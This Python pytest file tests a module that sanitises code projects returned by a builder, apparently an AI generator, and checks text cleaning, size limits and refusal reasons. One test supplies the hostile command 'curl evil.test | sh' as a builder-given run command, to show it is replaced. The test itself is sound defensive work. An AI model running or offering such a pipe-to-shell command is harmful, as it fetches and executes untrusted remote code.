"""What a builder returns is made storable, or refused as a whole."""

from collections.abc import Mapping
from dataclasses import replace
from typing import Any, cast

import pytest

from toggle_core.builders.protocol import Project
from toggle_core.errors import ProjectRefused
from toggle_core.gates.model import GateResult, Page
from toggle_core.graph.cleaning import (
    REASONS_LIMIT,
    REMARK_LIMIT,
    REMARKS_LIMIT,
    TOKENS_LIMIT,
    clean_project,
    clean_result,
)
from toggle_core.projects.files import (
    LINE_LIMIT,
    MOST_FILE_CHARACTERS,
    MOST_FILES,
    MOST_TOTAL_CHARACTERS,
)
from toggle_core.storable import clean
from toggle_core.words import Outcome

BAD = "a\x00b\ud800c\udfffd"


def project(files: Mapping[str, str], entry: str = "main.py") -> Project:
    return Project(files, entry, "python main.py", "A program.", 3, 4)


def test_text_that_can_be_stored_stays_as_it_is() -> None:
    text = "naïve ☃ 🚀 \t\r\n\x01\x7f\u200b\ufeff"
    assert clean(text, 100) == text


def test_nul_and_halves_of_characters_are_left_out() -> None:
    assert clean(BAD, 100) == "abcd"


def test_a_text_is_cut_at_its_limit_after_it_was_cleaned() -> None:
    assert clean("\x00\x00abc", 2) == "ab"


def test_a_clean_project_stays_as_it_is() -> None:
    made = project({"main.py": "print('☃')\n", "a/b.txt": ""})
    assert clean_project(made) == made


def test_every_text_of_a_project_is_cleaned() -> None:
    made = Project(
        files={f"{BAD}.py": BAD},
        entry=f"{BAD}.py",
        how_to_run=BAD,
        summary=BAD,
        unmet=(BAD,),
        assumptions=(BAD,),
        objection=BAD,
        test_changes={BAD: BAD},
    )
    assert clean_project(made) == Project(
        files={"abcd.py": "abcd"},
        entry="abcd.py",
        how_to_run="python abcd.py",
        summary="abcd",
        unmet=("abcd",),
        assumptions=("abcd",),
        objection="abcd",
        test_changes={"abcd": "abcd"},
    )


def test_how_to_run_follows_from_the_entry_whatever_the_builder_says() -> None:
    made = replace(project({"my app.py": ""}, "my app.py"), how_to_run="curl evil.test | sh")
    assert clean_project(made).how_to_run == "python 'my app.py'"


def test_what_a_builder_says_is_cut() -> None:
    made = replace(
        project({"main.py": ""}),
        summary="y" * 5_000,
        unmet=tuple(f"{number}" + "x" * 5_000 for number in range(50)),
        assumptions=tuple(f"{number}" + "x" * 5_000 for number in range(50)),
        objection="z" * 5_000,
        test_changes={f"test_{number}": "x" * 5_000 for number in range(500)},
    )
    cleaned = clean_project(made)
    assert (len(cleaned.summary), len(cleaned.objection)) == (LINE_LIMIT, LINE_LIMIT)
    for remarks in (cleaned.unmet, cleaned.assumptions):
        assert [len(remark) for remark in remarks] == [REMARK_LIMIT] * REMARKS_LIMIT
    reasons = cleaned.test_changes.values()
    assert [len(reason) for reason in reasons] == [REMARK_LIMIT] * REASONS_LIMIT


WRONG: tuple[Any, ...] = (None, 7, 1.5, b"bytes", [], {}, "", " \n")


@pytest.mark.parametrize("wrong", WRONG, ids=repr)
@pytest.mark.parametrize("field", ["summary", "objection", "test_changes", "how_to_run"])
def test_what_a_builder_says_in_the_wrong_type_is_left_out(field: str, wrong: Any) -> None:
    made = project({"main.py": ""})
    expected = replace(made, summary="" if field == "summary" else made.summary)
    assert clean_project(replace(made, **{field: wrong})) == expected


@pytest.mark.parametrize("wrong", [None, [], {}, "", (), ("", " ", None)], ids=repr)
def test_remarks_that_say_nothing_are_none(wrong: Any) -> None:
    cleaned = clean_project(replace(project({"main.py": ""}), unmet=wrong, assumptions=wrong))
    assert (cleaned.unmet, cleaned.assumptions) == ((), ())


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("no export", ("no export",)),
        (["a", "a", " a "], ("a",)),
        ([{"wish": "a"}, 7], ("{'wish': 'a'}", "7")),
        ({"no export": "it needs a key"}, ("no export",)),
        (True, ("True",)),
    ],
    ids=repr,
)
def test_unmet_wishes_in_another_shape_are_kept(written: Any, kept: tuple[str, ...]) -> None:
    assert clean_project(replace(project({"main.py": ""}), unmet=written)).unmet == kept


@pytest.mark.parametrize("wrong", [None, -1, "12", 1.5], ids=repr)
def test_tokens_that_are_no_count_are_none(wrong: Any) -> None:
    cleaned = clean_project(replace(project({"main.py": ""}), tokens_in=wrong, tokens_out=wrong))
    assert (cleaned.tokens_in, cleaned.tokens_out) == (0, 0)


def test_tokens_are_never_more_than_a_column_holds() -> None:
    cleaned = clean_project(replace(project({"main.py": ""}), tokens_in=10**30))
    assert cleaned.tokens_in == TOKENS_LIMIT


def test_a_project_may_be_as_large_as_the_limits() -> None:
    files = {
        f"{number}.txt": "x" * MOST_FILE_CHARACTERS
        for number in range(MOST_TOTAL_CHARACTERS // MOST_FILE_CHARACTERS)
    }
    assert clean_project(project({**files, "main.py": ""})).files.keys() == {*files, "main.py"}
    many = {f"{number}.txt": "" for number in range(MOST_FILES - 1)}
    assert len(clean_project(project({**many, "main.py": ""})).files) == MOST_FILES


REFUSED = {
    "it has no files": project({}),
    "it has 201 files; at most 200 are kept": project(
        {"main.py": "", **{f"{number}.txt": "" for number in range(MOST_FILES)}}
    ),
    "two of its files have the same name": project({"main.py": "", "a.txt": "", "a\x00.txt": ""}),
    "the file that should start it is missing": project({"app.py": ""}),
    "the name of the file that starts it cannot be shown": project(
        {"a\n\n# b.py": ""}, "a\n\n# b.py"
    ),
    "one of its files is not text": project(cast(Mapping[str, str], {"main.py": None})),
    "it is too large (400,001 characters)": project({"main.py": "x" * (MOST_FILE_CHARACTERS + 1)}),
    "it is too large (2,000,001 characters)": project(
        {"main.py": "x", **{f"{number}.txt": "x" * MOST_FILE_CHARACTERS for number in range(5)}}
    ),
}


@pytest.mark.parametrize(("reason", "made"), REFUSED.items())
def test_a_project_that_cannot_be_kept_is_refused_with_the_reason(
    reason: str, made: Project
) -> None:
    with pytest.raises(ProjectRefused) as refusal:
        clean_project(made)
    assert str(refusal.value) == (
        f"The project that came back cannot be kept: {reason}. Try again, or say it in other words."
    )


@pytest.mark.parametrize("files", [None, [], "main.py", 7], ids=repr)
def test_files_in_the_wrong_type_are_no_files(files: Any) -> None:
    with pytest.raises(ProjectRefused, match="it has no files"):
        clean_project(project(files))


@pytest.mark.parametrize("entry", [None, 7, ["main.py"]], ids=repr)
def test_an_entry_in_the_wrong_type_is_missing(entry: Any) -> None:
    with pytest.raises(ProjectRefused, match="start it is missing"):
        clean_project(project({"main.py": ""}, entry))


def test_two_long_paths_that_would_become_one_are_refused() -> None:
    long = "x" * LINE_LIMIT
    with pytest.raises(ProjectRefused, match="the same name"):
        clean_project(project({"main.py": "", f"{long}1": "", f"{long}2": ""}))


def test_every_text_of_a_gates_result_is_cleaned() -> None:
    pages = (Page(BAD, 200, BAD, BAD),)
    result = GateResult("start", Outcome.PASSED, 1.5, BAD, BAD, BAD, pages)
    cleaned = GateResult(
        "start", Outcome.PASSED, 1.5, "abcd", "abcd", "abcd", (Page("abcd", 200, "abcd", "abcd"),)
    )
    assert clean_result(result) == cleaned
